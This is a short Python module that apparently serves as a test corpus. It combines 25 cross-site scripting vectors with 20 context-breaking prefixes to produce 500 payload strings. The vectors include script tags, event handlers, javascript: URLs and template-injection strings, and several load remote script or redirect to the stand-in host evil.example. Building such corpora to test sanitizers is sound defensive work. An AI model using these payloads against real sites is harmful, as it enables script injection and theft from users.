"""Five hundred ways in which words of a page try to become part of ours."""

from __future__ import annotations

_VECTORS = (
    "<script>alert({n})</script>",
    "<ScRiPt>alert({n})</sCrIpT>",
    "<script src=//evil.example/{n}.js></script>",
    "<img src=x onerror=alert({n})>",
    "<img src=//evil.example/{n}.png>",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<iframe src=javascript:parent.alert({n})></iframe>",
    "<a href=javascript:alert({n})>x</a>",
    "javascript:alert({n})//http://x",
    " autofocus onfocus=alert({n}) x=",
    " onmouseover=alert({n}) style=position:fixed;inset:0 x=",
    "<input autofocus onfocus=alert({n})>",
    "<details open ontoggle=alert({n})>x</details>",
    "<body onload=alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})></style></mglyph></table></mtext></math>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<object data=javascript:alert({n})></object>",
    "<form action=//evil.example/{n}><button autofocus>x</button></form>",
    "{{{{ [].__class__ }}}}{{% set x = {n} %}}${{alert({n})}}",
    "<noscript><p title=\"</noscript><img src=x onerror=alert({n})>\">",
)  # fmt: skip
_OPENINGS = (
    "", '">', "'>", '"', "'", "</title>", "</textarea>", "</style>", "</script>", "-->", "<!--", "]]>", "`", "\\",
    "</option></select>", "</a></p></div>", "&lt;/p&gt;", "%22%3E", "\u2028", "＜",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(
    opening + vector.format(n=20 * v + o) for v, vector in enumerate(_VECTORS) for o, opening in enumerate(_OPENINGS)
)
